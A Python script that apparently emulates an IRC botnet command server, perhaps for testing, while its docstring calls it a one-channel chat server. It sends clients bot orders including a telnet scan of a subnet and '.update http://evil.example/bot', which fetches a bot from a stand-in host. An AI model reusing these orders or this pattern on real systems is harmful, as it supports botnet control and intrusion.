"""A chat server of one channel, whose owner gives commands now and then."""

import argparse
import random
import socketserver
import threading

_COMMANDS = (
    ".scan 198.51.100.0/24 23",
    ".update http://evil.example/bot",
    ".sysinfo",
    ".sleep 10",
    ".login x",
    ".uptime",
)


class _Talk(socketserver.StreamRequestHandler):
    def handle(self):
        chance, channel = self.server.chance, self.server.channel
        self.nick = "*"
        orders = threading.Event()
        threading.Thread(target=self._order, args=(chance, channel, orders), daemon=True).start()
        try:
            for line in self.rfile:
                self._take(line.decode(errors="replace").split(), channel)
        except OSError:
            pass
        orders.set()

    def _take(self, words, channel):
        if not words:
            return
        if words[0] == "NICK":
            self.nick = words[1]
        elif words[0] == "USER":
            self._say(f":irc 001 {self.nick} :Welcome", f":irc 376 {self.nick} :End of MOTD")
        elif words[0] == "JOIN":
            self._say(f":{self.nick}!x@x JOIN {channel}", f":irc 332 {self.nick} {channel} :.idle")
            self._say(f":irc 353 {self.nick} = {channel} :@owner {self.nick}", f":irc 366 {self.nick} {channel} :End")
        elif words[0] == "PING":
            self._say(f"PONG {words[-1]}")

    def _order(self, chance, channel, ended):
        while not ended.wait(chance.uniform(*self.server.pauses)):
            try:
                self._say(chance.choice((f":owner!o@o PRIVMSG {channel} :{chance.choice(_COMMANDS)}", "PING :irc")))
            except OSError:
                return

    def _say(self, *lines):
        self.wfile.write("".join(f"{line}\r\n" for line in lines).encode())


class _Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--bind", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--channel", default="#d")
    parser.add_argument("--pauses", default="3-9")
    parser.add_argument("--seed", type=int, required=True)
    arguments = parser.parse_args()
    server = _Server((arguments.bind, arguments.port), _Talk)
    server.chance = random.Random(arguments.seed)
    server.channel = arguments.channel
    server.pauses = tuple(map(float, arguments.pauses.split("-")))
    server.serve_forever()


main()
